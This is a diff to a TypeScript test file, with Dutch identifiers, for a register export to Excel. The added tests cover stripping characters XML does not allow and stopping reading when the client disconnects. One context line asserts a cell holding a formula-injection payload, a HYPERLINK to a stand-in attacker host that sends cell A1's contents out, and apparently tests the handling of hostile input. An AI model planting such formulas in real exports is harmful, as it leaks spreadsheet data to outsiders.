@@ -59,6 +59,34 @@ describe('the register export', () => {
     expect(blad.getRow(3).getCell(3).value).toBe('=HYPERLINK("http://aanvaller.example/?d="&A1,"Klik hier")');
   });
 
+  it('leaves out characters XML does not allow, so one odd title never makes the workbook unreadable', async () => {
+    const werkmap = new ExcelJS.Workbook();
+    await werkmap.xlsx.load((await buffer(registerExport('xlsx', blokken([rij({ titel: 'Motie\uFFFE over\uFFFF iets\u0007' })]), '2025-07-01', 'Register'))) as never);
+    expect(werkmap.getWorksheet('Register')!.getRow(2).getCell(3).value).toBe('Motie over iets');
+  });
+
+  it('stops reading the register when the client leaves half-way through a workbook', async () => {
+    let gelezen = 0;
+    let gestopt!: () => void;
+    const klaar = new Promise<void>((r) => (gestopt = r));
+    async function* veel() {
+      try {
+        for (let i = 0; i < 10_000; i++) {
+          gelezen++;
+          await new Promise((r) => setImmediate(r));
+          yield Array.from({ length: 50 }, (_, j) => rij({ nummer: `TZ202412-${i * 50 + j}` }));
+        }
+      } finally {
+        gestopt();
+      }
+    }
+    const uit = registerExport('xlsx', veel(), '2025-07-01', 'Register');
+    await new Promise<void>((r) => uit.once('data', () => r()));
+    uit.destroy();
+    await klaar;
+    expect(gelezen).toBeLessThan(10_000);
+  });
+
   it('breaks the download when reading fails half-way, instead of ending a short file as if it were whole', async () => {
     async function* stuk() {
       yield [rij({})];
